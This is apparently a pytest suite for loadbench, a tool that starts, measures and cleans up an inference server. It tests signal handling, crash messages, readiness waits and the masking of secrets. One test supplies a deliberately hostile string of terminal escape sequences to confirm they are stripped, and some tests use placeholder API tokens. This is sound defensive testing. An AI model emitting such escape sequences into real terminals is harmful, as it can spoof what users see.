"""A server that loadbench starts: it is waited for and measured, and nothing of it is left, whatever happens."""

from __future__ import annotations

import io
import json
import os
import re
import shlex
import signal
import socket
import sys
from pathlib import Path
from typing import Any
from uuid import uuid4

import anyio
import psutil
import pytest

from loadbench.core.errors import BadInput, TargetEnded
from loadbench.core.guard import below, linux_parents
from loadbench.plan.pairs import sides
from loadbench.plan.server_command import secrets_of_command, shown_command, split_words
from loadbench.plan.sources import resolve
from loadbench.session.consent import confirm_command
from loadbench.session.setup import check
from loadbench.targets.server_command import _REPEATED_S, ServerEnd, StartedServer
from loadbench.telemetry.machine_use import MachineReader
from loadbench.telemetry.process import MeasuredProcess
from tests.cli.running import interrupted, loadbench, started
from tests.cli.typed import typed
from tests.core.test_guard import linux_only, until, with_mark

SERVER = Path(__file__).with_name("small_server.py")
SHORT = ("--users=1,2", "--requests=4", "--warm-up=0s", "--drain=2s", "--max-tokens=3", "--telemetry=off")


@pytest.fixture
def mark() -> str:
    """A word that no other process has."""
    return f"mark-{uuid4().hex}"


def command(mark: str, *options: str) -> str:
    """The command line of the small server."""
    return shlex.join([sys.executable, str(SERVER), "--mark", mark, *options]) + " --port {port}"


def run_in(folder: Path) -> dict[str, Any]:
    """The run that was kept there."""
    (path,) = folder.rglob("run.json")
    return json.loads(path.read_text(encoding="utf-8"))


def server(mark: str, *options: str, folder: Path, say: Any = lambda _: None, **flags: object) -> StartedServer:
    """A server that has not been started, with a short grace."""
    given = {"server_cmd": command(mark, *options), "out": str(folder), **flags}
    scenario = resolve(flags=given, environment={})
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    return StartedServer(scenario, dict(os.environ), port=port, say=say, grace_s=0.3)


def refusal(*arguments: str, cwd: Path) -> str:
    """The one line of an error that is the user's."""
    result = typed("sweep", *arguments, cwd=cwd)
    assert result.returncode == 2, result.stderr
    (line,) = (line for line in result.stderr.splitlines() if line.startswith("error"))
    assert "Traceback" not in result.stderr
    return line


# The whole way.


@pytest.mark.slow
@linux_only
def test_a_started_server_is_measured_and_ended(tmp_path, mark):
    """Its log is in the run folder, the run says how it started, and no process is left."""
    result = loadbench("sweep", f"--server-cmd={command(mark, '--prints=hello')}", *SHORT, cwd=tmp_path)
    assert result.returncode in {0, 4, 5}, result.stderr
    assert with_mark(mark) == []
    run = run_in(tmp_path)
    assert [level["load"]["users"] for level in run["levels"]] == [1, 2]
    assert run["simulated"] is False
    (log,) = tmp_path.rglob("*.log")
    assert log.parent == tmp_path / "results" / log.parent.name
    assert log.read_text().startswith("hello\n")
    begun = run["server_start"]
    assert 0 < begun["ready_s"] < begun["first_response_s"]
    assert 0 < begun["memory_loaded_bytes"] <= begun["memory_peak_bytes"]
    assert mark in begun["command"]
    assert begun["ended"] == ""
    assert "started by loadbench: ready" in result.stdout


@pytest.mark.slow
@linux_only
@pytest.mark.parametrize("name", ["SIGINT", "SIGTERM", "SIGHUP"])
def test_nothing_is_left_after_a_signal(tmp_path, mark, name):
    """What was measured is kept, and the server ended in order."""
    options = ("--users=1", "--duration=300s", "--warm-up=0s", "--telemetry=off", "--no-live")
    with started("sweep", f"--server-cmd={command(mark, '--fork=detached')}", *options, cwd=tmp_path) as process:
        assert process.stderr is not None
        until(lambda: "begins" in process.stderr.readline())
        process.send_signal(getattr(signal, name))
        process.communicate(timeout=60)
    assert process.returncode == 130
    assert with_mark(mark) == []
    assert run_in(tmp_path)["complete"] is False


@pytest.mark.slow
@linux_only
@pytest.mark.parametrize("fork", [(), ("--fork=detached",)])
def test_nothing_is_left_after_loadbench_is_killed(tmp_path, mark, fork):
    """The guard sees the end of its pipe."""
    options = ("--users=1", "--duration=300s", "--warm-up=0s", "--telemetry=off", "--no-live")
    with started("sweep", f"--server-cmd={command(mark, *fork)}", *options, cwd=tmp_path) as process:
        assert process.stderr is not None
        until(lambda: "begins" in process.stderr.readline())
        assert with_mark(mark)
        process.kill()
        process.communicate(timeout=60)
    until(lambda: not with_mark(mark))


@pytest.mark.slow
@linux_only
@pytest.mark.parametrize("whom", ["named", "guard"])
def test_nothing_is_left_after_all_of_loadbench_is_killed(tmp_path, mark, whom):
    """At one moment, with the processes that `pkill -9 -f loadbench` finds, or with the guard: one that the server has
    started and that has left it ends all the same, and the log has no secret."""
    secret = "hf_0123456789"
    given = [f"--server-cmd={command(mark, '--fork=detached', '--shows=HF_TOKEN')}", f"--server-env=HF_TOKEN={secret}"]
    options = ("--users=1", "--duration=300s", "--warm-up=0s", "--no-live")
    with started("sweep", *given, *options, cwd=tmp_path) as process:
        assert process.stderr is not None
        until(lambda: "begins" in process.stderr.readline())
        ours = below(process.pid, linux_parents())
        guards = [pid for pid in ours if Path(f"/proc/{pid}/comm").read_bytes() == b"server-guard\n"]
        named = [pid for pid in ours if b"loadbench" in Path(f"/proc/{pid}/cmdline").read_bytes()]
        assert len(guards) == 1
        assert not {*guards} & {*named}
        killed = [process.pid, *(guards if whom == "guard" else named)]
        for number in (signal.SIGSTOP, signal.SIGKILL):
            for pid in killed:
                os.kill(pid, number)
        process.communicate(timeout=60)
    until(lambda: not with_mark(mark))
    (log,) = tmp_path.rglob("server.log")
    assert log.read_text().startswith("HF_TOKEN is ***\n")
    assert secret not in log.read_text()


@pytest.mark.slow
@linux_only
def test_nothing_is_left_after_an_interruption_of_the_start(tmp_path, mark):
    """Ctrl-C while the server is waited for."""
    with started("sweep", f"--server-cmd={command(mark, '--never')}", *SHORT, "--no-live", cwd=tmp_path) as process:
        until(lambda: len(with_mark(mark)) > 1)  # loadbench's own command line has it, too
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=60)
    assert process.returncode in {130, -signal.SIGINT}
    assert with_mark(mark) == []


@pytest.mark.slow
@linux_only
@pytest.mark.parametrize(("end", "words"), [("exit:3", "with exit code 3"), ("signal:SIGSEGV", "by SIGSEGV")])
def test_a_crash_in_a_level_is_named_and_the_level_is_kept(tmp_path, mark, end, words):
    """The exit code is that of a target that is gone; the run goes on with --resume."""
    options = ("--users=1,2,4", "--requests=20", "--warm-up=0s", "--drain=2s", "--max-tokens=3", "--telemetry=off")
    crashing = command(mark, "--prints=loaded", "--after", "50", end)
    result = loadbench("sweep", f"--server-cmd={crashing}", *options, cwd=tmp_path)
    assert result.returncode == 6, result.stderr
    assert with_mark(mark) == []
    run = run_in(tmp_path)
    assert [level["load"]["users"] for level in run["levels"]] == [1, 2, 4][: len(run["levels"])]
    (reason,) = (one for one in run["levels"][-1]["verdict"]["reasons"] if one["code"] == "server_ended")
    assert reason["message"] == f"the server ended {words}"
    assert run["levels"][-1]["outcomes"]["ok"] > 0
    assert run["server_start"]["ended"] == f"the server ended {words}"
    assert f"the server ended {words}" in result.stdout
    assert "Traceback" not in result.stderr


@linux_only
def test_a_run_goes_on_after_a_crash(tmp_path, mark):
    """With the command of its record; the level of the crash is measured again, and the new output is kept as well."""
    options = ("--users=1,2", "--requests=20", "--warm-up=0s", "--drain=2s", "--max-tokens=3", "--telemetry=off")
    crashing = command(mark, "--after", "40", "exit:3")
    assert typed("sweep", f"--server-cmd={crashing}", *options, cwd=tmp_path).returncode == 6
    (folder,) = (tmp_path / "results").iterdir()
    result = typed("sweep", f"--resume={folder}", cwd=tmp_path)
    assert result.returncode in {0, 4, 5}, result.stderr
    run = run_in(tmp_path)
    assert [level["outcomes"] for level in run["levels"]] == [{"ok": 20}, {"ok": 20}]
    assert run["server_start"]["ended"] == ""
    assert [status["status"] for status in run["models"]] == ["ok"]
    assert sorted(path.name for path in folder.glob("*.log")) == ["server-2.log", "server.log"]


@pytest.mark.slow
@linux_only
def test_a_search_keeps_what_it_had_when_the_server_crashes(tmp_path, mark):
    """It says what it knows, and exits as where the target is gone."""
    crashing = command(mark, "--after", "200", "exit:9")
    options = ("--slo=e2e_p95<9s", "--budget=60s", "--warm-up=0s", "--max-tokens=3", "--telemetry=off", "--at-most=8")
    result = loadbench("capacity", f"--server-cmd={crashing}", *options, cwd=tmp_path)
    assert result.returncode == 6, (result.stdout, result.stderr)
    assert "the server ended with exit code 9" in result.stderr + result.stdout
    assert with_mark(mark) == []
    assert (next(tmp_path.rglob("capacity.json")).parent / "server.log").exists()


def supervised(mark: str, *options: str, pause: str = "0") -> str:
    """A command that starts the small server again whenever it ends, without the options that may have ended it."""
    return shlex.join(["sh", "-c", f"{command(mark, *options)}; while :; do sleep {pause}; {command(mark)}; done"])


@linux_only
@pytest.mark.parametrize(("pause", "words"), [("0", "started again by its command"), ("60", "its command goes on")])
def test_a_restart_in_a_level_is_named(tmp_path, mark, pause, words):
    """A supervisor that starts a crashed server again does not hide the crash: the level is kept as failed."""
    given = supervised(mark, "--after", "40", "exit:3", pause=pause)
    options = ("--users=1,2,4", "--duration=4s", "--warm-up=0s", "--max-tokens=3", "--telemetry=off", "--think=20ms")
    result = typed("sweep", f"--server-cmd={given}", *options, cwd=tmp_path)
    assert result.returncode == 6, result.stderr
    assert with_mark(mark) == []
    (level,) = run_in(tmp_path)["levels"]
    assert level["verdict"]["status"] == "INVALID"
    (reason,) = (one for one in level["verdict"]["reasons"] if one["code"] == "server_ended")
    assert words in reason["message"]
    pids = re.findall(r"process (\d+)", reason["message"])
    assert len(pids) == len({*pids}) == 1 + (pause == "0")
    assert level["outcomes"]["ok"] > 0
    assert words in result.stdout
    # A lower load or an idle machine would not have kept it running.
    failures = [one["advice"] for one in level["verdict"]["reasons"] if one["code"] == "failures"]
    assert {*failures} <= {"see why the server ended"}
    assert "on an idle machine" not in result.stdout


@linux_only
def test_a_restart_at_the_end_of_a_level_is_named(tmp_path, mark):
    """Whoever looks at that moment sees it, whether or not a request fails."""
    one = server(mark, folder=tmp_path, server_cmd=supervised(mark))

    async def use() -> None:
        await one.start()
        try:
            await one.look()
            assert one.why_ended == ""
            listeners = {process.pid for process in one._listeners}
            assert listeners < {*with_mark(mark)}
            for pid in listeners:
                os.kill(pid, signal.SIGKILL)
            # Until its parent has taken note of it: what has no environment any more may still end.
            assert not psutil.wait_procs(one._listeners, timeout=30)[1]
            until(one._listening)
            with pytest.raises(TargetEnded, match="was started again by its command: process"):
                await one.raise_if_ended()
        finally:
            await one.stop()

    anyio.run(use)
    assert with_mark(mark) == []


ROLLING = """
import os, socket, sys, time
def work():
    if worker := os.fork():
        return worker
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    listener.bind(("127.0.0.1", int(sys.argv[1])))
    listener.listen()
    while True:
        one, _ = listener.accept()
        one.recv(65536)
        body = b'{"object": "list", "data": [{"id": "small"}]}'
        one.sendall(b"HTTP/1.1 200 OK\\r\\nconnection: close\\r\\ncontent-length: %d\\r\\n\\r\\n%s" % (len(body), body))
        one.close()
workers = [work(), work()]
while True:
    os.wait()
    work()
"""


@linux_only
def test_workers_that_are_replaced_one_by_one_are_no_end(tmp_path, mark):
    """Each with a socket of its own: in the end none of those that listened at first is left."""
    given = shlex.join([sys.executable, "-c", ROLLING]) + " {port} " + mark
    one = server(
        mark, folder=tmp_path, server_cmd=given.replace("{", "{{").replace("}", "}}").replace("{{port}}", "{port}")
    )

    async def use() -> None:
        await one.start()
        try:
            until(lambda: len(one._listening()) == 2)
            one._listeners = one._listening()
            before = {process.pid for process in one._listeners}
            for pid in before:
                os.kill(pid, signal.SIGKILL)
                until(lambda pid=pid: len({process.pid for process in one._listening()} - {pid}) == 2)
                await one.look()
                assert one.why_ended == ""
            assert not before & {process.pid for process in one._listeners}
        finally:
            await one.stop()

    anyio.run(use)


@linux_only
def test_a_server_that_does_not_end_at_once_is_waited_for_with_a_word(tmp_path, mark):
    """Whoever has ended the run sees what it waits for."""
    said: list[str] = []
    one = server(mark, "--stubborn", folder=tmp_path, say=said.append)
    one._grace_s = 2.0

    async def use() -> None:
        await one.start()
        pid = one.pid
        await one.stop()
        assert said == [f"the server (process {pid}) is still being ended: what is left of it after 2s is killed"]

    anyio.run(use)
    assert with_mark(mark) == []


@pytest.mark.slow
@linux_only
def test_a_second_ctrl_c_says_that_the_server_is_still_being_ended(tmp_path, mark):
    """loadbench leaves; its guard goes on until nothing is left."""
    options = ("--users=1", "--duration=300s", "--warm-up=0s", "--telemetry=off", "--no-live")
    with started("sweep", f"--server-cmd={command(mark, '--stubborn')}", *options, cwd=tmp_path) as process:
        assert process.stderr is not None
        until(lambda: "begins" in process.stderr.readline())
        process.send_signal(signal.SIGINT)
        until(lambda: "is still being ended" in process.stderr.readline())
        process.send_signal(signal.SIGINT)
        _, err = process.communicate(timeout=60)
    assert process.returncode == 130
    assert "killed, also when loadbench has left\n" in err
    until(lambda: with_mark(mark) == [])


@linux_only
@pytest.mark.parametrize("ends", ["exit:3", "signal:SIGSEGV"])
def test_a_crash_before_the_first_response_is_named(tmp_path, mark, ends):
    """While its models are listed for the run: not as a connection that was refused."""
    named = {"exit:3": "with exit code 3", "signal:SIGSEGV": "by SIGSEGV"}[ends]
    given = command(mark, "--lists", "1", ends, "--prints=CUDA error: device lost")
    result = typed("sweep", f"--server-cmd={given}", *SHORT, cwd=tmp_path)
    assert result.returncode == 6
    (line,) = (line for line in result.stderr.splitlines() if line.startswith("error"))
    # On a busy machine it may end before its first list has been read.
    said = rf"the server ended {named}( before it was ready)?: CUDA error: device lost"
    assert re.fullmatch(f"error: {said}", line)
    assert ".log" in result.stderr
    result = typed("sweep", f"--server-cmd={given}", *SHORT, "--vary=seed=1", "--out=grid", cwd=tmp_path)
    assert result.returncode == 6
    assert re.search(f"cell 1 of 1 failed: {said}", result.stderr)


@linux_only
def test_all_that_the_command_has_started_is_sampled(tmp_path, mark):
    """Also where the process that listens has neither started those that have the memory, nor was started by them."""
    holds = f"import sys,time; x = b'1' * (96 << 20); open(sys.argv[1], 'w'); time.sleep(600) # {mark}"
    filled = tmp_path / "filled"
    script = f"{shlex.join([sys.executable, '-c', holds, str(filled)])} & {command(mark)}; wait"
    one = server(mark, folder=tmp_path, server_cmd=shlex.join(["sh", "-c", script]))

    async def use() -> None:
        await one.start()
        try:
            until(filled.exists)
            one.look_at_memory(is_loaded=True)
            watched = MeasuredProcess.detect(psutil, port=one.port, host="127.0.0.1", pid=None)
            assert watched is not None
            use = MachineReader([one.url]).read()
            assert use is not None
            assert watched.read()["process_rss_bytes"] == pytest.approx(one.record.memory_loaded_bytes, rel=0.05)
            assert one.record.memory_loaded_bytes > 96 << 20
            # The shell has the mark in its own command line.
            assert watched.pids() == use.server_pids == {*with_mark(mark)}
        finally:
            await one.stop()

    anyio.run(use)


# Starting.


@linux_only
@pytest.mark.parametrize(
    ("option", "seen"),
    [
        ("--never", "nothing listens at its port"),
        ("--refuses-list=600", "HTTP 503"),
        ("--lists-none=600", "its list of models is empty"),
    ],
)
def test_what_is_waited_for_is_said(tmp_path, mark, option, seen):
    """Also without a terminal, as in the log of a CI job: from time to time, and in the error at the end."""
    result = typed("sweep", f"--server-cmd={command(mark, option)}", *SHORT, "--ready-timeout=5s", cwd=tmp_path)
    assert result.returncode == 6
    lines = result.stderr.splitlines()
    (waits,) = (line for line in lines if line.startswith("waiting for the server, process "))
    assert seen in waits
    (error,) = (line for line in lines if line.startswith("error: the server was not ready within 5s: "))
    assert seen in error
    assert "it listens at" not in error  # at the port that it was given


@linux_only
def test_a_list_that_is_empty_at_first_is_waited_for(tmp_path, mark):
    """Unless the model is named: a server may list none."""
    one = server(mark, "--lists-none=1.5", folder=tmp_path)
    assert anyio.run(_started_and_ended, one).ready_s >= 1.5
    one = server(mark, "--lists-none=600", folder=tmp_path, model=["small"], ready_timeout="60s")
    assert anyio.run(_started_and_ended, one).ready_s > 0


@linux_only
def test_a_model_that_is_loaded_is_waited_for_with_the_reason(tmp_path, mark):
    """The list responds already, and chats get HTTP 503: that is said from time to time, and at the end."""
    given = command(mark, "--loads=600")
    result = typed("sweep", f"--server-cmd={given}", *SHORT, "--ready-timeout=6s", cwd=tmp_path)
    assert result.returncode == 6
    assert re.search(
        r"(?m)^waiting until the server has loaded its model \(HTTP 503.*Loading model.*\): ", result.stderr
    )
    assert "Loading model" in next(line for line in result.stderr.splitlines() if line.startswith("error"))


@linux_only
def test_a_server_that_never_becomes_ready_is_given_up(tmp_path, mark):
    """After the time limit, with what it does not do and the place of its output."""
    result = typed("sweep", f"--server-cmd={command(mark, '--never')}", *SHORT, "--ready-timeout=700ms", cwd=tmp_path)
    assert result.returncode == 6
    assert "the server was not ready within 700ms: nothing listens at its port" in result.stderr
    assert "--ready-timeout" in result.stderr
    place = re.search(r"its output is in (\S+?\.log)", result.stderr)
    assert place is not None
    assert (tmp_path / place[1]).exists()
    assert with_mark(mark) == []


@linux_only
def test_a_server_that_ends_at_once_shows_its_last_lines(tmp_path, mark):
    """At once, and not at the time limit; escape sequences in the output do nothing."""
    hostile = r"--prints=first\nmodel \x1b[31mnot\x1b[0m found\x1b]0;title\x07"
    result = typed("sweep", f"--server-cmd={command(mark, hostile, '--ends=exit:4')}", *SHORT, cwd=tmp_path)
    assert result.returncode == 6
    assert "the server ended with exit code 4 before it was ready: model not found" in result.stderr
    assert "  first\n" in result.stderr
    assert "\x1b" not in result.stderr
    assert "\x9b" not in result.stderr
    assert with_mark(mark) == []


@linux_only
def test_the_line_with_the_error_is_named(tmp_path, mark):
    """What to do may stand after it: the last line alone says nothing."""
    prints = r"--prints=loading\nerror: --profile: there is no profile x\n\nhint: the profiles are a, b"
    result = typed("sweep", f"--server-cmd={command(mark, prints, '--ends=exit:2')}", *SHORT, cwd=tmp_path)
    message = "before it was ready: error: --profile: there is no profile x / hint: the profiles are a, b"
    assert message in result.stderr


@linux_only
def test_what_a_shell_says_of_a_killed_program_is_explained(tmp_path):
    """Its exit code, and its own words, which may be all that is known."""
    script = tmp_path / "serve.sh"
    script.write_text("#!/bin/bash\nsh -c 'kill -9 $$'\nexit ${2:-137}\n")
    script.chmod(0o700)
    for more, words in (("", "with exit code 137 (128 + 9: killed, of which"), (" 1", "with exit code 1 before")):
        result = typed("sweep", f"--server-cmd={script} {{port}}{more}", *SHORT, cwd=tmp_path)
        assert result.returncode == 6
        assert words in result.stderr
        assert "hint: a program of it was killed, of which too little memory is the usual cause" in result.stderr


@linux_only
def test_the_error_alone_has_the_last_words(tmp_path, mark):
    """With --quiet nothing else is said; without, none of them is said twice, and a long line is cut."""
    prints = rf"--prints=loading\nerror: no such device {'x' * 5000}"
    given = (f"--server-cmd={command(mark, prints, '--never')}", "--ready-timeout=3s", *SHORT)
    (error, _) = typed("sweep", *given, "--quiet", cwd=tmp_path).stderr.splitlines()
    assert "not ready within 3s: nothing listens at its port; the end of its output: error: no such device x" in error
    assert len(error) < 500
    loud = typed("sweep", *given, cwd=tmp_path).stderr
    assert "\n  loading\n" in loud
    assert loud.count("no such device") == 1


@linux_only
def test_a_line_without_an_end_is_shown(tmp_path, mark):
    """Longer than what is read of the log."""
    result = typed(
        "sweep",
        f"--server-cmd={command(mark, rf'--prints={30_000 * chr(120)}', '--ends=exit:1')}",
        *SHORT,
        cwd=tmp_path,
    )
    assert "before it was ready: xxxx" in result.stderr


@linux_only
def test_megabytes_of_output_are_no_problem(tmp_path, mark):
    """They are all kept, and only the end is shown."""
    result = typed(
        "sweep", f"--server-cmd={command(mark, f'--floods={8 << 20}', '--ends=exit:1')}", *SHORT, cwd=tmp_path
    )
    assert "before it was ready: the last line" in result.stderr
    assert len(result.stderr) < 10_000
    assert next(tmp_path.rglob("*.log")).stat().st_size >= 8 << 20


@linux_only
def test_a_server_that_goes_to_the_background_is_followed(tmp_path, mark):
    """It serves although its command has ended, and ends with the run."""
    result = typed("sweep", f"--server-cmd={command(mark, '--fork=background')}", *SHORT, cwd=tmp_path)
    assert result.returncode in {0, 4, 5}, result.stderr
    assert len(run_in(tmp_path)["levels"]) == 2
    assert with_mark(mark) == []


@linux_only
def test_the_first_request_waits_until_the_model_is_loaded(tmp_path, mark):
    """A list of models comes before the model is loaded; chats get 503 until then, and are sent again."""
    result = typed("sweep", f"--server-cmd={command(mark, '--refuses=4')}", *SHORT, cwd=tmp_path)
    assert result.returncode in {0, 4, 5}, result.stderr
    run = run_in(tmp_path)
    assert [level["outcomes"] for level in run["levels"]] == [{"ok": 4}, {"ok": 4}]
    # Four requests were repeated, each after a pause.
    assert run["server_start"]["first_response_s"] - run["server_start"]["ready_s"] > 4 * _REPEATED_S


@linux_only
def test_another_server_at_the_port_is_not_measured(tmp_path, mark):
    """It is named as far as the system tells."""
    with socket.socket() as other:
        other.bind(("127.0.0.1", 0))
        other.listen()
        port = other.getsockname()[1]
        url = f"--url=http://127.0.0.1:{port}/v1"
        result = typed("sweep", f"--server-cmd={command(mark)}", url, *SHORT, cwd=tmp_path)
    assert result.returncode == 6
    assert f"something listens at port {port} already (process {os.getpid()}," in result.stderr
    assert with_mark(mark) == []


@linux_only
def test_secrets_are_neither_shown_nor_kept(tmp_path, mark):
    """Values of variables and of options are hidden in messages, records and the server's output."""
    shows = command(mark, "--shows=WALK_TOKEN", "--ends=exit:1")
    result = typed(
        "sweep", f"--server-cmd={shows}", "--server-env=WALK_TOKEN=s3cret-value", *SHORT, "--no-live", cwd=tmp_path
    )
    assert "before it was ready: WALK_TOKEN is ***" in result.stderr
    kept = command(mark, "--shows=WALK_TOKEN")
    result = typed("sweep", f"--server-cmd={kept}", "--server-env=WALK_TOKEN=s3cret-value", *SHORT, cwd=tmp_path)
    assert result.returncode in {0, 4, 5}, result.stderr
    run = run_in(tmp_path)
    assert run["scenario"]["target"]["server_env"] == {"WALK_TOKEN": "***"}
    assert run["server_start"]["variables"] == ["WALK_TOKEN"]
    for path in tmp_path.rglob("*"):
        assert not path.is_file() or b"s3cret" not in path.read_bytes(), path


@pytest.mark.parametrize(
    ("line", "shown", "hidden"),
    [
        ("serve -k sk-abcdef0123456789", "serve -k ***", ["sk-abcdef0123456789"]),
        ("bash -c 'serve --api-key X1'", "bash -c 'serve --api-key ***'", ["X1"]),
        ("docker run --env=HF_TOKEN=X1 x", "docker run --env=HF_TOKEN=*** x", ["X1"]),
        ("serve --header 'Authorization: Bearer X1'", "serve --header 'Authorization: Bearer ***'", ["X1"]),
        ("""serve '{{"api_key": "X1"}}'""", """serve '{{"api_key": "***"}}'""", ["X1"]),
        ("serve http://u:X1@h/?token=X2", "serve http://***@h/?token=***", ["u:X1", "X2"]),
        (
            "serve --max-token 5 --tokenizer my/one --key {port}",
            "serve --max-token 5 --tokenizer my/one --key {port}",
            [],
        ),
    ],
)
def test_secrets_are_found_within_words(line, shown, hidden):
    """Of scripts, variables, headers, JSON and URLs; and what stays can be read."""
    assert shown_command(split_words(line)) == shown
    assert list(secrets_of_command(split_words(line))) == hidden


@pytest.mark.parametrize("text", ["a-", "key: ", "a=", "://", "sk-", 'a" ', "-"])
def test_long_words_are_searched_in_linear_time(text):
    """No command takes minutes to show."""
    assert shown_command([text * 100_000])


@linux_only
def test_a_secret_of_the_users_own_environment_is_not_in_the_log(tmp_path, mark, monkeypatch):
    """A server may print what it has inherited."""
    monkeypatch.setenv("OTHER_API_KEY", "inherited-0123456789")
    loadbench("sweep", f"--server-cmd={command(mark, '--shows=OTHER_API_KEY')}", *SHORT, cwd=tmp_path)
    (log,) = tmp_path.rglob("server.log")
    assert log.read_text() == "OTHER_API_KEY is ***\n"


@linux_only
def test_a_server_at_another_port_is_found_out(tmp_path, mark):
    """The message says where it listens, since that may be a slip in the command."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        other = free.getsockname()[1]
    given = command(mark).replace("{port}", str(other))
    options = ("--url=http://127.0.0.1:{port}/v1", "--server-env=PORT={port}", "--ready-timeout=5s")
    result = loadbench("sweep", f"--server-cmd={given}", *options, *SHORT, cwd=tmp_path)
    assert result.returncode == 6
    assert f"nothing listens at its port; it listens at 127.0.0.1:{other}" in result.stderr


@linux_only
def test_a_script_without_its_first_line_is_explained(tmp_path):
    """A shell runs one, so the advice to try it there would not help."""
    script = tmp_path / "serve.sh"
    script.write_text("exec sleep 60\n")
    script.chmod(0o700)
    result = typed("sweep", "--server-cmd=./serve.sh {port}", *SHORT, cwd=tmp_path)
    assert result.returncode == 2
    assert "#!/bin/sh" in result.stderr


@linux_only
@pytest.mark.slow
def test_what_a_stopped_guard_leaves_is_killed(tmp_path, mark):
    """It does not end what it should, so loadbench does."""

    async def stopped() -> None:
        one = server(mark, "--fork=detached", folder=tmp_path)
        await one.start()
        assert one.pid is not None
        os.kill(linux_parents()[one.pid], signal.SIGSTOP)
        await one.stop()

    anyio.run(stopped)
    assert with_mark(mark) == []


@linux_only
def test_loadbenchs_own_variables_are_not_the_servers(tmp_path, mark, monkeypatch):
    """A key for a server that is measured is nobody else's."""
    monkeypatch.setenv("LOADBENCH_API_KEY", "walk-key-1234")
    one = server(mark, "--shows=LOADBENCH_API_KEY", folder=tmp_path)

    async def use() -> None:
        await one.start()
        await one.stop()

    anyio.run(use)
    assert one.log is not None
    assert "LOADBENCH_API_KEY is None" in one.log.read_text()


# Again and again.


@linux_only
def test_a_server_is_started_again_at_the_same_address(tmp_path, mark):
    """Its output goes on in the same file after a line that says so; a stop without a server does nothing."""
    one = server(mark, "--prints=hello", folder=tmp_path)

    async def use() -> list[Any]:
        starts = []
        for _ in range(2):
            starts.append(await one.start())
            assert one.pid in with_mark(mark)
            await one.stop()
            await one.stop()
            assert with_mark(mark) == []
        return starts

    first, second = anyio.run(use)
    assert first.url == second.url == one.url
    assert one.ended is None
    assert one.log is not None
    assert len(re.findall(r"(?m)^hello$", one.log.read_text())) == 2
    assert "started again by loadbench" in one.log.read_text()


@linux_only
def test_a_killed_guard_leaves_nothing(tmp_path, mark):
    """Its server ends with it, what that has started is found and killed, and the end is reported."""
    one = server(mark, "--fork=detached", folder=tmp_path)

    async def use() -> None:
        await one.start()
        assert one.pid is not None
        os.kill(linux_parents()[one.pid], signal.SIGKILL)
        with anyio.fail_after(60):
            await one.until_ended()
        with pytest.raises(TargetEnded, match="the process that guards it was killed"):
            await one.raise_if_ended()
        await one.stop()

    anyio.run(use)
    assert with_mark(mark) == []


@linux_only
def test_a_server_is_ready_when_its_url_says_so(tmp_path, mark):
    """With --ready-url, whatever its list of models says."""
    one = server(mark, folder=tmp_path, ready_url="http://127.0.0.1:{port}/health", ready_timeout="20s")
    assert anyio.run(_started_and_ended, one).ready_by == "url"


async def _started_and_ended(one: StartedServer) -> Any:
    try:
        return await one.start()
    finally:
        await one.stop()


# What is refused before anything starts.


@pytest.mark.parametrize(
    ("given", "words"),
    [
        (["--server-cmd=no-such-server-here --port {port}"], "there is no such program on the PATH"),
        (["--server-cmd=./nothing --port {port}"], "no such file"),
        (["--server-cmd=./plain.txt --port {port}"], "is not a program that you may run"),
        (["--server-cmd=./folder --port {port}"], "is a folder"),
        (["--server-cmd="], "want a command and its words"),
        (["--server-cmd=   "], "want a command and its words"),
        (["--server-cmd=python3 'serve.py --port {port}"], "a quotation in it has no end"),
        (["--server-cmd=python3 serve.py"], "does not say at which port its server listens"),
        (["--server-cmd=python3 serve.py --port {prot}"], "found {prot}"),
        (["--server-cmd=python3 serve.py --port {port} --json {"], "found {"),
        (["--server-cmd=python3 serve.py", "--url=http://192.0.2.1:8080"], "not on another host"),
        (["--url=http://127.0.0.1:{port}/v1"], "is for a server that loadbench starts"),
        (["--server-cmd=python3 a.py {port}", "--ready-url=http://192.0.2.1/health"], "not on this machine"),
        (["--server-env=A=1"], "loadbench starts no server"),
        (["--server-cmd=python3 a.py {port}", "--server-env=A"], "want a variable and its value"),
        (["--server-cmd=python3 a.py {port}", "--server-env=A=1", "--server-env=A=2"], "A is given twice"),
        (["--server-cmd=python3 a.py {port}", "--profile=small-gpu"], "it is a profile of the simulated server"),
        (["--server-cmd=python3 a.py {port}", "--yes-run"], "no scenario file gives a command"),
    ],
)
def test_what_cannot_be_started_is_refused(tmp_path, given, words):
    """In one line with a remedy, also by a dry run."""
    (tmp_path / "plain.txt").write_text("hello")
    (tmp_path / "folder").mkdir()
    for more in ([], ["--dry-run"]):
        assert words in refusal(*given, *more, *SHORT, cwd=tmp_path)
    assert not (tmp_path / "results").exists()


def test_a_dry_run_shows_the_command_and_starts_nothing(tmp_path, mark):
    """Without its secrets."""
    given = f"{shlex.quote(sys.executable)} serve.py --api-key abcdefgh1234 --mark {mark} --port {{port}}"
    result = typed("sweep", f"--server-cmd={given}", "--server-env=HF_TOKEN=hf_secret", "--dry-run", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert f"HF_TOKEN=*** {sys.executable} serve.py --api-key *** --mark {mark} --port {{port}}" in result.stdout
    assert "abcdefgh" not in result.stdout
    long = typed("sweep", f"--server-cmd=python3 serve.py {'y' * 100_000} {{port}}", "--dry-run", cwd=tmp_path)
    assert re.search(r"yyy… \(100,\d{3} characters\)", long.stdout)
    assert "y" * 2_001 not in long.stdout
    assert "hf_secret" not in result.stdout
    assert not (tmp_path / "results").exists()


def test_the_endpoint_of_other_programs_is_not_taken(tmp_path, mark):
    """A variable that names another server does not replace the one that is started."""
    scenario = resolve(flags={"server_cmd": command(mark)}, environment={"OPENAI_BASE_URL": "http://192.0.2.1:9/v1"})
    assert scenario.url is None
    check(scenario, os.environ)


# A command that a file chooses.


def scenario_with(folder: Path, **flags: object) -> Any:
    """The scenario of a file with a command."""
    (folder / "s.toml").write_text('[target]\nserver_cmd = ["python3", "serve.py", "--port", "{port}"]\n')
    return resolve(flags=flags, environment={}, file=folder / "s.toml")


def test_a_command_of_a_scenario_file_needs_a_yes(tmp_path):
    """Without a terminal it is refused, with the command and the flag."""
    with pytest.raises(BadInput) as caught:
        confirm_command(scenario_with(tmp_path), say=lambda _: None)
    assert "python3 serve.py --port {port}" in caught.value.message
    assert "--yes-run" in caught.value.hint
    said: list[str] = []
